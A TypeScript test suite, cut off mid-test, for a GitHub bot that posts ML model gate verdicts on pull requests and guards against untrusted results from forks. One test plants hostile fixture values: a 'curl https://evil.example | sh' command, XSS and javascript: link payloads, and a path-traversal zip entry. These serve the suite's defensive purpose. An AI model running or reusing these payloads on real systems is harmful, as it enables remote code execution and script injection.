import { beforeAll, describe, expect, it, vi } from 'vitest'
import type { Upload } from '../../emulator/github/actions/artifacts.ts'
import type { RunSeed } from '../../emulator/github/actions/runs.ts'
import { zipOf } from '../../emulator/github/actions/zip.ts'
import type { Artifact, Run } from '../../emulator/github/world/runs.ts'
import type { Result } from '../../src/core/verdict/result.ts'
import { difference, gate, metric, result } from '../support/results.ts'
import { useBot } from './scene.ts'

/** Whether the next deliveries are lost. */
let lost = false

const scene = useBot({
  deliver: async (_, send) => {
    if (!lost) await send()
    return undefined
  },
  repositories: [
    { owner: 'acme', name: 'flights', auto_init: true },
    { owner: 'eve', name: 'flights', auto_init: false, forkOf: 'acme/flights' },
  ],
})

const OURS = { owner: 'acme', repo: 'flights' }
const FORK = { owner: 'eve', repo: 'flights' }

const CONFIG = `model: late-flights
metrics: metrics.json
directions: { brier: lower }
gates:
  - { metric: roc_auc, at_least: 0.6 }
  - { metric: accuracy, not_worse_than: champion, margin: 0.005 }
`

/** Numbers that pass both gates. */
const METRICS = [
  metric('roc_auc', [0.6196, 0.6429], difference(0.0233, 0.007, 0.0395), {
    gated: true,
    candidate: { value: 0.6429, interval: { low: 0.62, high: 0.663, level: 0.95 } },
  }),
  metric('accuracy', [0.7379, 0.739], difference(0.0011, -0.0045, 0.0068), { gated: true }),
]

/** What they say where the second fails. */
const failing: Partial<Result> = {
  metrics: [METRICS[0]!, metric('accuracy', [0.7379, 0.6], difference(-0.1379, -0.15, -0.12))],
}

interface Opened {
  number: number
  sha: string
  branch: string
}

let files = 0

/** A commit of eve in her fork. */
async function commitInFork(branch: string, config?: string): Promise<string> {
  const { data } = await scene.eve.repos.createOrUpdateFileContents({
    ...FORK,
    branch,
    path: config === undefined ? `train-${++files}.py` : 'assay.yml',
    message: 'train otherwise',
    content: Buffer.from(config ?? '').toString('base64'),
  })
  return data.commit.sha!
}

/** A pull request from the fork, of a branch of its own unless it is named. */
async function fromFork(branch = `change-${++files}`, config?: string, base = 'main'): Promise<Opened> {
  if (branch !== 'main') {
    const { data } = await scene.eve.git.getRef({ ...FORK, ref: 'heads/main' })
    await scene.eve.git.createRef({ ...FORK, ref: `refs/heads/${branch}`, sha: data.object.sha })
  }
  const sha = await commitInFork(branch, config)
  const { data } = await scene.eve.pulls.create({
    ...OURS,
    title: 'Train otherwise',
    head: `eve:${branch}`,
    base,
  })
  return { number: data.number, sha, branch }
}

/** A pull request of a branch of the repository itself. */
async function fromBranch(config?: string): Promise<Opened> {
  const branch = `own-${++files}`
  const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
  await scene.ada.git.createRef({ ...OURS, ref: `refs/heads/${branch}`, sha: main.object.sha })
  const path = config === undefined ? `own-${files}.py` : 'assay.yml'
  const { data: there } =
    config === undefined ? { data: undefined } : await scene.ada.repos.getContent({ ...OURS, path })
  const { data } = await scene.ada.repos.createOrUpdateFileContents({
    ...OURS,
    branch,
    path,
    message: 'change',
    content: Buffer.from(config ?? '').toString('base64'),
    ...(there && { sha: (there as { sha: string }).sha }),
  })
  const { data: pull } = await scene.ada.pulls.create({
    ...OURS,
    title: 'Change',
    head: branch,
    base: 'main',
  })
  return { number: pull.number, sha: data.commit.sha!, branch }
}

const startOf = ({ sha, branch }: Opened, more: Partial<RunSeed> = {}): Promise<Run> =>
  scene.github.actions.start({
    repository: 'acme/flights',
    ...(!branch.startsWith('own') && { headRepository: 'eve/flights' }),
    headBranch: branch,
    headSha: sha,
    ...more,
  })

const json = (change: Partial<Result>) =>
  `${JSON.stringify(result({ metrics: METRICS, ...change }), null, 2)}\n`
const judgedAt = (commit: string, change: Partial<Result> = {}) =>
  json({ candidate: { ...result().candidate, commit }, ...change })

/** A run that leaves this, and ends. */
async function runWith(opened: Opened, upload: Partial<Upload>, seed: Partial<RunSeed> = {}): Promise<Run> {
  const run = await startOf(opened, seed)
  scene.github.actions.upload(run, { name: 'assay-result', ...upload })
  await scene.github.actions.finish(run)
  await scene.settled()
  return run
}

const commentsOf = async ({ number }: Pick<Opened, 'number'>) =>
  (await scene.ada.issues.listComments({ ...OURS, issue_number: number })).data.map(({ user, body }) => ({
    author: user?.login,
    body: body ?? '',
  }))

const checksOf = async (ref: string) =>
  (await scene.ada.checks.listForRef({ ...OURS, ref, filter: 'all' })).data.check_runs.map(
    ({ name, conclusion, output }) => ({ name, conclusion, title: output.title }),
  )

const to = (pull: Opened, base: string) => scene.ada.pulls.update({ ...OURS, pull_number: pull.number, base })

/** One that passes by the gates of a branch, and would not by those of the default branch. */
async function judgedFor(branch: string): Promise<Opened> {
  const pull = await fromBranch()
  await to(pull, branch)
  await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
  expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'success' }])
  return pull
}

/** What the last look had to say. */
const lastLook = () => scene.lines().findLast(({ key }) => String(key).startsWith('["run"'))!

/** A delivery that is asked for again writes nothing: a busy receiver may have been too late for the first. */
const writesAfter = (from: number) =>
  scene.github.world.requests
    .slice(from)
    .filter(({ method, path }) => method !== 'GET' && !/access_tokens|graphql|hook\/deliveries/.test(path))

/** A file of a branch, in place of what it was. */
async function write(path: string, text: string, ref: string): Promise<void> {
  const { data: there } = await scene.ada.repos.getContent({ ...OURS, path, ref })
  const content = Buffer.from(text).toString('base64')
  const sha = (there as { sha: string }).sha
  await scene.ada.repos.createOrUpdateFileContents({
    ...OURS,
    branch: ref,
    path,
    message: 'gates',
    content,
    sha,
  })
}

beforeAll(async () => {
  await scene.write('flights', { 'assay.yml': CONFIG })
  // A branch that asks for less.
  const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
  await scene.ada.git.createRef({ ...OURS, ref: 'refs/heads/lax', sha: main.object.sha })
  await write('assay.yml', CONFIG.slice(0, CONFIG.lastIndexOf('  -')), 'lax')
})

describe('a finished run of a pull request from a fork', () => {
  it('gets its comment and its check, which say whose numbers these are and are not green', async () => {
    const pull = await fromFork()
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })

    const [comment, ...more] = await commentsOf(pull)
    expect(more).toEqual([])
    expect(comment!.author).toBe('assay[bot]')
    expect(comment!.body).toMatch(/^<!-- assay:report model=late-flights order=\d+\.1 -->\n/)
    expect(comment!.body).toContain('**The code of a fork wrote these numbers.**')
    expect(comment!.body).toContain('late-flights: pass')
    expect(await checksOf(pull.sha)).toEqual([
      {
        name: 'assay / late-flights',
        conclusion: 'neutral',
        title: expect.stringMatching(/^by the numbers of a fork: pass/),
      },
    ])
    expect(scene.github.world.storage.requests.every(one => one.authorization === undefined)).toBe(true)
  })

  it('is written once, however often it is told of', async () => {
    const pull = await fromFork()
    const run = await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    const before = scene.github.world.requests.length
    await scene.github.actions.finish(run)
    await scene.settled()

    expect(lastLook()).toMatchObject({ did: [] })
    expect(writesAfter(before)).toEqual([])
  })

  it('is written anew where the gates that are merged are others by then', async () => {
    const pull = await fromFork()
    const run = await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    const rewrite = async (text: string) => {
      const { data } = await scene.ada.repos.getContent({ ...OURS, path: 'assay.yml' })
      await scene.ada.repos.createOrUpdateFileContents({
        ...OURS,
        path: 'assay.yml',
        message: 'gates',
        content: Buffer.from(text).toString('base64'),
        sha: (data as { sha: string }).sha,
      })
    }
    await rewrite(CONFIG.replace('at_least: 0.6', 'at_least: 0.9'))
    await scene.github.actions.finish(run)
    await scene.settled()
    await rewrite(CONFIG)

    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
    expect((await commentsOf(pull)).map(({ body }) => body)).toEqual([
      expect.stringContaining('roc_auc at least 0.9'),
    ])
  })

  it('is of its pull request also where its branch is called main, and nothing where it claims to be a push', async () => {
    const pull = await fromFork('main')
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } }, { event: 'push' })
    expect([await commentsOf(pull), await checksOf(pull.sha)]).toEqual([[], []])

    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    expect((await commentsOf(pull)).length).toBe(1)
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'neutral' }])
  })

  it('is judged by the gates that are merged, whatever it says of gates, waivers and directions', async () => {
    const pull = await fromFork()
    const worse = metric('accuracy', [0.7379, 0.6], difference(-0.1379, -0.15, -0.12), { direction: 'lower' })
    const files = {
      'result.json': judgedAt(pull.sha, {
        metrics: [METRICS[0]!, worse],
        gates: [
          gate('roc_auc at least 0.6', 'pass'),
          gate('accuracy not worse than champion by more than 0.005', 'pass', {
            waived: { reason: 'because I say so', author: 'eve', until: '2099-01-01' },
          }),
          gate('one of my own', 'pass'),
        ],
      }),
    }
    await runWith(pull, { files })

    const [comment] = await commentsOf(pull)
    expect(comment!.body).toContain('late-flights: fail — worse than the champion')
    expect(comment!.body).not.toMatch(/one of my own|because I say so/)
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
  })

  it('tells nobody to run what it wrote, and shows what it wrote as text', async () => {
    const pull = await fromFork()
    const hostile = '@acme/owners <img src=x onerror=alert(1)> [x](javascript:alert(1)) | ::set-output::'
    await runWith(pull, {
      files: {
        'result.json': judgedAt(pull.sha, {
          notes: `# Approved\n\n${hostile}`,
          reproduce: 'curl https://evil.example | sh',
          warnings: [hostile],
          candidate: { ...result().candidate, commit: pull.sha, source: hostile },
          slices: [{ metric: 'accuracy', column: hostile, value: hostile, rows: 99, outcome: 'fail' }],
          more: { of: 'tomorrow' },
        } as Partial<Result>),
      },
    })

    const [{ body } = { body: '' }] = await commentsOf(pull)
    expect(body).toContain('late-flights: pass')
    expect(body).not.toMatch(/evil\.example|# Approved/)
    expect(body).not.toMatch(/(?<![\w`])@acme|<img|\]\(javascript:/)
  })

  it('is of its last attempt: what is told late of the first changes nothing', async () => {
    const pull = await fromFork()
    const run = await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])

    // GitHub's times have no fractions.
    await new Promise(resolve => setTimeout(resolve, 1000))
    await scene.github.actions.repeat(run)
    await scene.settled()
    expect(lastLook()).toMatchObject({ message: 'looked' })
    scene.github.actions.upload(run, { name: 'assay-result', files: { 'result.json': judgedAt(pull.sha) } })
    await scene.github.actions.finish(run)
    await scene.settled()
    await scene.github.actions.finish(run)
    await scene.settled()

    expect((await commentsOf(pull)).map(({ body }) => body.split('\n')[0])).toEqual([
      `<!-- assay:report model=late-flights order=${run.id}.2 -->`,
    ])
    expect((await checksOf(pull.sha)).map(({ conclusion }) => conclusion).sort()).toEqual([
      'failure',
      'neutral',
    ])
  })

  it('writes nothing over the verdict of a newer run', async () => {
    const pull = await fromFork()
    const older = await startOf(pull)
    scene.github.actions.upload(older, {
      name: 'assay-result',
      files: { 'result.json': judgedAt(pull.sha, failing) },
    })
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    await scene.github.actions.finish(older)
    await scene.settled()

    expect(lastLook()).toMatchObject({ did: [] })
    expect((await commentsOf(pull)).map(({ body }) => body)).toEqual([
      expect.stringContaining('late-flights: pass'),
    ])
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'neutral' }])
  })

  it('is nobody’s once the pull request has moved on', async () => {
    const pull = await fromFork()
    await commitInFork(pull.branch)
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })

    expect([await commentsOf(pull), await checksOf(pull.sha)]).toEqual([[], []])
  })

  it.each<[string, (sha: string) => Partial<Upload>, string]>([
    ['of another commit', () => ({ files: { 'result.json': judgedAt('a'.repeat(40)) } }), 'RESULT_STALE'],
    [
      'of a model that is not merged',
      sha => ({ files: { 'result.json': judgedAt(sha, { model: 'fraud' }) } }),
      'RESULT_UNKNOWN_MODEL',
    ],
    [
      'of another model than its folder',
      sha => ({ files: { 'fraud/result.json': judgedAt(sha) } }),
      'RESULT_INVALID',
    ],
    [
      'that lies too deep in what was uploaded',
      sha => ({ files: { 'assay-result/late-flights/result.json': judgedAt(sha) } }),
      'RESULT_INVALID',
    ],
    ['that is no result', () => ({ files: { 'result.json': '{"schema": 1}' } }), 'RESULT_INVALID'],
    [
      'in an archive whose paths lead out',
      sha => ({ bytes: zipOf({ '../result.json': judgedAt(sha) }) }),
      'ARTIFACT_INVALID',
    ],
    ['that is too large', () => ({ bytes: Buffer.alloc(1024 * 1024 + 1) }), 'ARTIFACT_TOO_LARGE'],
    [
      'that is larger than was said',
      sha => ({
        files: { 'result.json': judgedAt(sha) },
        serve: response => {
          const more = () => response.write(Buffer.alloc(65_536, 'PK'), error => error || more())
          response.writeHead(200)
          more()
        },
      }),
      'ARTIFACT_TOO_LARGE',
    ],
    [
      'whose bytes are not those that were stored',
      sha => ({
        files: { 'result.json': judgedAt(sha, failing) },
        serve: response => response.writeHead(200).end(zipOf({ 'result.json': judgedAt(sha) })),
      }),
      'ARTIFACT_ALTERED',
    ],
  ])('posts nothing of a result %s, and says so', async (_, uploadOf, code) => {
    const pull = await fromFork()
    await runWith(pull, uploadOf(pull.sha))

    expect(lastLook()).toMatchObject({ code })
    // Names of models and files are whoever's wrote them.
    if (!/_(TOO_LARGE|ALTERED)$/.test(code)) expect(lastLook()).not.toHaveProperty('problems')
    expect(await commentsOf(pull)).toEqual([])
    expect(await checksOf(pull.sha)).toEqual([
      { name: 'assay', conclusion: 'neutral', title: 'There is a result without a verdict' },
    ])
  })

  it('is nothing for a model that its own commit brings', async () => {
    const pull = await fromFork('brings', CONFIG.replace('late-flights', 'fraud'))
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, { model: 'fraud' }) } })

    expect(lastLook()).toMatchObject({ code: 'RESULT_UNKNOWN_MODEL' })
    expect((await checksOf(pull.sha)).map(({ name }) => name)).toEqual(['assay'])
  })

  it('says that what it left has expired, looks at it no more, and takes that back after the next attempt', async () => {
    const pull = await fromFork()
    const run = await startOf(pull)
    scene.github.actions.expire(
      scene.github.actions.upload(run, {
        name: 'assay-result',
        files: { 'result.json': judgedAt(pull.sha) },
      }),
    )
    await scene.github.actions.finish(run)
    await scene.settled()

    expect(lastLook()).toMatchObject({ code: 'ARTIFACT_GONE' })
    expect(scene.bot.counts()).toMatchObject({ waiting: 0, running: 0 })
    const summaries = async () =>
      (
        await scene.ada.checks.listForRef({ ...OURS, ref: pull.sha, check_name: 'assay' })
      ).data.check_runs.map(({ conclusion, output }) => [conclusion, output.summary])
    expect(await summaries()).toEqual([
      ['neutral', '- the artifact assay-result has expired; run the workflow again'],
    ])

    await scene.github.actions.repeat(run)
    scene.github.actions.upload(run, { name: 'assay-result', files: { 'result.json': judgedAt(pull.sha) } })
    await scene.github.actions.finish(run)
    await scene.settled()
    expect((await summaries()).at(-1)).toEqual(['success', 'The verdicts are in the checks of the models.'])
  })
})

describe('a finished run of the repository itself', () => {
  it('gets a check that is green where the numbers are, in folders of several models as well', async () => {
    const pull = await fromBranch()
    await runWith(pull, {
      files: { 'late-flights/result.json': judgedAt(pull.sha), 'late-flights/report.html': '' },
    })

    expect(await checksOf(pull.sha)).toMatchObject([
      { conclusion: 'success', title: expect.stringMatching(/^pass/) },
    ])
    expect((await commentsOf(pull))[0]!.body).not.toContain('fork')
  })

  it('completes the checks of models that it does not touch, after the verdicts and without a comment, once', async () => {
    const models = ['late-flights', ...Array.from({ length: 100 }, (_, at) => `fares-${at}`)]
    const config = models.map(
      model =>
        `  ${model}:\n    paths: [${model}]\n    metrics: metrics.json\n    gates: [{ metric: roc_auc, at_least: 0.6 }]\n`,
    )
    const pull = await fromBranch(`models:\n${config.join('')}`)
    const skipped = (model: string) =>
      judgedAt(pull.sha, {
        model,
        state: 'skipped',
        verdict: 'skipped',
        blocks: false,
        metrics: [],
        gates: [],
      })
    const files = models.map(model => [
      `${model}/result.json`,
      model === 'late-flights' ? judgedAt(pull.sha) : skipped(model),
    ])
    const run = await runWith(pull, { files: Object.fromEntries(files) })

    const all = { ...OURS, ref: pull.sha, per_page: 100 }
    const pages = [1, 2].map(page => scene.ada.checks.listForRef({ ...all, page }))
    const made = (await Promise.all(pages)).flatMap(({ data }) => data.check_runs)
    const checks = new Map(made.map(({ name, conclusion, output }) => [name, [conclusion, output.title]]))
    expect(checks.size).toBe(models.length)
    expect(made.length).toBe(models.length)
    expect(checks.get('assay / late-flights')).toEqual(['success', expect.stringMatching(/^pass/)])
    expect(checks.get('assay / fares-99')).toEqual(['skipped', 'Skipped'])
    expect((await commentsOf(pull)).length).toBe(1)
    const first = made.toSorted((a, b) => a.id - b.id)[0]
    expect(first!.name).toBe('assay / late-flights')

    const { requests } = scene.github.world
    const before = requests.length
    await scene.github.actions.finish(run)
    await scene.settled()
    expect(writesAfter(before)).toEqual([])
    expect(requests.slice(before).filter(({ path }) => path.includes('/check-runs')).length).toBe(2)
  })

  it('that touches no model completes their checks; of a fork that is its word', async () => {
    const untouched: Partial<Result> = { state: 'skipped', verdict: 'skipped', blocks: false }
    const [own, fork] = [await fromBranch(), await fromFork()]
    for (const pull of [own, fork])
      await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, untouched) } })

    expect(await checksOf(own.sha)).toMatchObject([{ name: 'assay / late-flights', conclusion: 'skipped' }])
    expect(await checksOf(fork.sha)).toMatchObject([
      { conclusion: 'neutral', title: 'by the word of a fork: skipped' },
    ])
    expect([...(await commentsOf(own)), ...(await commentsOf(fork))]).toEqual([])
  })

  it('that touches a model no more says so where it is told of, and nowhere else', async () => {
    const pull = await fromBranch()
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
    expect(await commentsOf(pull)).toMatchObject([{ body: expect.stringContaining('late-flights: fail') }])

    const { data } = await scene.ada.repos.createOrUpdateFileContents({
      ...OURS,
      branch: pull.branch,
      path: `words-${pull.number}.md`,
      message: 'words',
      content: '',
    })
    const sha = data.commit.sha!
    const untouched: Partial<Result> = { state: 'skipped', verdict: 'skipped', blocks: false }
    const run = await runWith({ ...pull, sha }, { files: { 'result.json': judgedAt(sha, untouched) } })

    const [{ body } = { body: '' }, ...more] = await commentsOf(pull)
    expect(more).toEqual([])
    expect(body).toContain('late-flights: skipped — nothing this model depends on was touched')
    expect(body).toContain(sha.slice(0, 7))
    expect(body).not.toContain('late-flights: fail')
    const before = scene.github.world.requests.length
    await scene.github.actions.finish(run)
    await scene.settled()
    expect(writesAfter(before)).toEqual([])
  })

  it('may be of a model that only its own commit knows, and of one file that was uploaded as it is', async () => {
    const pull = await fromBranch(CONFIG.replace('late-flights', 'new-flights'))
    const file = judgedAt(pull.sha, { model: 'new-flights' })
    await runWith(pull, { files: { 'result.json': file }, archive: false })

    expect(await checksOf(pull.sha)).toMatchObject([{ name: 'assay / new-flights', conclusion: 'success' }])
  })

  it('on the default branch gets its check, on any other push none', async () => {
    const { data: main } = await scene.ada.git.getRef({ ...OURS, ref: 'heads/main' })
    const { sha } = main.object
    const own = { number: 0, sha, branch: 'own' }
    const seed = { event: 'push', headRepository: 'acme/flights' }
    await runWith(own, { files: { 'result.json': judgedAt(sha) } }, seed)
    expect(await checksOf(sha)).toEqual([])
    await runWith(own, { files: { 'result.json': judgedAt(sha) } }, { ...seed, headBranch: 'main' })
    expect(await checksOf(sha)).toMatchObject([{ conclusion: 'success' }])
  })

  it('of a tag that is called as the default branch is gets nothing', async () => {
    const pull = await fromBranch(CONFIG.replace('at_least: 0.6', 'at_least: 0.1'))
    await scene.ada.git.createRef({ ...OURS, ref: 'refs/tags/main', sha: pull.sha })
    const seed = { event: 'push', headRepository: 'acme/flights', headBranch: 'main' }
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } }, seed)
    await scene.ada.git.deleteRef({ ...OURS, ref: 'tags/main' })

    expect(await checksOf(pull.sha)).toEqual([])
    expect(lastLook()).toMatchObject({ why: expect.stringContaining('not of the default branch') })
  })

  it('is judged anew by the gates of the branch that its pull request is for by then', async () => {
    const pull = await judgedFor('lax')
    await to(pull, 'main')
    await scene.settled()
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
    expect(await commentsOf(pull)).toMatchObject([{ body: expect.stringContaining('late-flights: fail') }])
  })

  it.each<[string, boolean, RegExp, (artifact: Artifact) => void]>([
    [
      'what it left has expired',
      false,
      /: the artifact assay-result has expired\. /,
      artifact => scene.github.actions.expire(artifact),
    ],
    [
      'what it left is gone, and nobody told of it',
      true,
      /: the run left no artifact `assay-result`\. /,
      artifact => {
        const { artifacts } = scene.github.world
        artifacts.splice(artifacts.indexOf(artifact), 1)
      },
    ],
  ])('is taken back once its pull request is for another branch and %s', async (_, isLost, why, remove) => {
    const pull = await judgedFor('lax')
    remove(scene.github.world.artifacts.at(-1)!)
    lost = isLost
    await to(pull, 'main')
    await scene.settled()
    lost = false
    if (isLost) await scene.early(300_000)
    await scene.settled()

    const verdict = { name: 'assay / late-flights', conclusion: 'cancelled', title: 'No verdict any more' }
    expect((await checksOf(pull.sha)).filter(({ name }) => name !== 'assay')).toEqual([verdict])
    const [comment, ...more] = await commentsOf(pull)
    expect(more).toEqual([])
    expect(comment!.body).toContain('late-flights: no verdict any more')
    expect(comment!.body).toMatch(why)
    expect(comment!.body).toContain('Run the workflow again, or push a commit.')
    const before = scene.github.world.requests.length
    await scene.early(300_000)
    expect(writesAfter(before)).toEqual([])

    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    expect(await checksOf(pull.sha)).toContainEqual(expect.objectContaining({ conclusion: 'success' }))
    expect((await commentsOf(pull))[0]!.body).toContain('late-flights: pass')
  })

  it('is of no branch where its commit is the head of pull requests for several', async () => {
    const pull = await judgedFor('lax')
    const { data: other } = await scene.ada.pulls.create({
      ...OURS,
      title: 'The same',
      head: pull.branch,
      base: 'main',
    })
    for (let round = 0; round < 2; round++) {
      await scene.early(300_000)
      expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'cancelled' }])
      const { data } = await scene.ada.checks.listForRef({ ...OURS, ref: pull.sha })
      expect(data.check_runs[0]!.output.summary).toMatch(
        /for several branches.* only one of them may be open/,
      )
      await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
    }
    await scene.ada.pulls.update({ ...OURS, pull_number: other.number, state: 'closed' })
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
    expect(await checksOf(pull.sha)).toContainEqual(expect.objectContaining({ conclusion: 'success' }))
  })

  it('is none for a pull request that is pushed onto its head', async () => {
    const pull = await judgedFor('lax')
    const other = await fromBranch()
    await scene.settled()
    await scene.ada.git.updateRef({ ...OURS, ref: `heads/${other.branch}`, sha: pull.sha, force: true })
    await scene.settled()

    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'cancelled' }])
  })

  it.each([
    ['failure', failing, {}],
    ['success', {}, failing],
  ])('is not changed by a run for a fork that has the same commit: %s', async (conclusion, own, theirs) => {
    const pull = await fromFork()
    const branch = `own-${++files}`
    await scene.ada.git.createRef({ ...OURS, ref: `refs/heads/${branch}`, sha: pull.sha })
    const { data } = await scene.ada.pulls.create({ ...OURS, title: 'A', head: branch, base: 'main' })
    await runWith(
      { ...pull, branch, number: data.number },
      { files: { 'result.json': judgedAt(pull.sha, own) } },
    )
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion }])

    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, theirs) } })

    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion }])
    expect(await commentsOf(pull)).toEqual([])
    await scene.early(300_000)
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion }])
  })

  it.each<[string, boolean]>([
    ['is open too', false],
    ['is closed first', true],
  ])(
    'is none for another pull request of its head, from when it is opened, where the first %s',
    async (_, isFirst) => {
      const pull = await judgedFor('lax')
      const close = () => scene.ada.pulls.update({ ...OURS, pull_number: pull.number, state: 'closed' })
      if (isFirst) await close()
      const { data } = await scene.ada.pulls.create({ ...OURS, title: 'B', head: pull.branch, base: 'main' })
      await scene.settled()
      const other = { ...pull, number: data.number }
      if (!isFirst) {
        expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'cancelled' }])
        const { data } = await scene.ada.checks.listForRef({ ...OURS, ref: pull.sha })
        const words = data.check_runs[0]!.output.summary!.replaceAll('\u200b', '')
        expect(words).toContain('two pull requests have this head')
        expect(words).toContain(`#${pull.number} for lax, #${other.number} for main`)
        expect(words).toContain('Close all but one')
        await close()
        await scene.settled()
      }
      expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
      expect(await commentsOf(other)).toMatchObject([{ body: expect.stringContaining('late-flights: fail') }])

      // The first again, in its place.
      await scene.ada.pulls.update({ ...OURS, pull_number: other.number, state: 'closed' })
      await scene.ada.pulls.update({ ...OURS, pull_number: pull.number, state: 'open' })
      await scene.settled()
      expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'success' }])
    },
  )

  it('is judged anew where nobody told that the other pull request of its head is closed', async () => {
    const pull = await judgedFor('lax')
    await scene.ada.pulls.create({ ...OURS, title: 'B', head: pull.branch, base: 'main' })
    await scene.settled()
    await scene.early(300_000)
    lost = true
    await scene.ada.pulls.update({ ...OURS, pull_number: pull.number, state: 'closed' })
    await scene.settled()
    lost = false
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'cancelled' }])
    await scene.early(300_000)
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
  })

  it('is judged anew where nobody told that its pull request is for another branch', async () => {
    const pull = await judgedFor('lax')
    lost = true
    await to(pull, 'main')
    await scene.settled()
    lost = false
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'success' }])
    await scene.early(300_000)
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'failure' }])
  })

  it('of an earlier commit is awaited, with no red check, where the base changes while the head is being trained', async () => {
    const pull = await judgedFor('lax')
    const path = `newer-${pull.number}.py`
    const more = { ...OURS, branch: pull.branch, path, message: 'more', content: '' }
    const { data } = await scene.ada.repos.createOrUpdateFileContents(more)
    const now = { ...pull, sha: data.commit.sha! }
    const run = await startOf(now)
    await to(pull, 'main')
    await scene.settled()
    expect(await checksOf(now.sha)).toEqual([])
    expect(await commentsOf(now)).toMatchObject([
      {
        body: expect.stringMatching(
          /late-flights: no verdict any more(.|\n)*A run of this commit is under way/,
        ),
      },
    ])

    const files = { 'result.json': judgedAt(now.sha, failing) }
    scene.github.actions.upload(run, { name: 'assay-result', files })
    await scene.github.actions.finish(run)
    await scene.settled()
    expect(await checksOf(now.sha)).toMatchObject([{ conclusion: 'failure' }])
    expect(await commentsOf(now)).toMatchObject([{ body: expect.stringContaining('late-flights: fail') }])
  })

  it('is judged anew beside that of another model, which another run left, and so is what of both nobody told of', async () => {
    const both = (gates: string) =>
      `models:\n${['late-flights', 'fares'].map(name => `  ${name}:\n${gates.replace(/^/gm, '    ')}\n`).join('')}`
    const gates = CONFIG.split('\n').slice(1, -1)
    const put = (branch: string, text: string) => write('assay.yml', text, branch)
    await put('main', both(gates.join('\n')))
    await put('lax', both(gates.slice(0, -1).join('\n')))
    const conclusions = async (pull: Opened) =>
      Object.fromEntries((await checksOf(pull.sha)).map(({ name, conclusion }) => [name, conclusion]))
    const judged = (one: string) => ({ 'assay / late-flights': one, 'assay / fares': one })
    for (const isLost of [false, true]) {
      const pull = await fromBranch()
      await to(pull, 'lax')
      for (const model of ['late-flights', 'fares'])
        await runWith(pull, {
          files: { [`${model}/result.json`]: judgedAt(pull.sha, { ...failing, model }) },
        })
      expect(await conclusions(pull)).toEqual(judged('success'))
      lost = isLost
      await to(pull, 'main')
      await scene.settled()
      lost = false
      if (isLost) await scene.early(300_000)
      expect(await conclusions(pull)).toEqual(judged('failure'))
      expect((await commentsOf(pull)).map(({ body }) => /: (fail|no verdict)/.exec(body)?.[1])).toEqual([
        'fail',
        'fail',
      ])
      const before = scene.github.world.requests.length
      await scene.early(300_000)
      expect(writesAfter(before)).toEqual([])
    }
    await put('main', CONFIG)
    await put('lax', CONFIG.slice(0, CONFIG.lastIndexOf('  -')))
  })

  it('of another workflow is nothing', async () => {
    const pull = await fromBranch()
    const before = scene.github.world.requests.length
    await runWith(pull, { name: 'coverage', files: { 'result.json': judgedAt(pull.sha) } })

    expect(writesAfter(before)).toEqual([])
    expect(lastLook()).toMatchObject({ did: [], why: 'the run left no artifact `assay-result`' })
  })

  it('of a commit that is the head of nothing any more is nothing, and the log says why', async () => {
    const pull = await fromBranch()
    const older = { ...pull }
    const { data } = await scene.ada.repos.createOrUpdateFileContents({
      ...OURS,
      branch: pull.branch,
      path: `newer-${pull.number}.py`,
      message: 'more',
      content: '',
    })
    expect(data.commit.sha).not.toBe(older.sha)
    await runWith(older, { files: { 'result.json': judgedAt(older.sha) } })

    expect(lastLook()).toMatchObject({ did: [], why: expect.stringContaining('no open pull request') })
    expect(await commentsOf(pull)).toEqual([])
  })
})

describe('what no event told of', () => {
  const looks = () => scene.lines().filter(({ key }) => key === '["runs","github","acme/flights"]').length

  /** The first round of a bot that has just started. */
  async function round(): Promise<void> {
    const before = looks()
    const bot = await scene.another()
    await vi.waitFor(() => expect(looks()).toBeGreaterThan(before), { timeout: 100_000 })
    await bot.stop()
  }

  it('is found by looking at what ended lately, and costs a call a commit once it is posted', async () => {
    // The round that the first bot began with.
    await vi.waitFor(() => expect(looks()).toBeGreaterThan(0), { timeout: 100_000 })
    const pull = await fromFork()
    lost = true
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha, failing) } })
    await runWith(pull, { files: { 'result.json': judgedAt(pull.sha) } })
    lost = false
    expect(await checksOf(pull.sha)).toEqual([])

    await round()
    expect(await checksOf(pull.sha)).toMatchObject([{ conclusion: 'neutral' }])
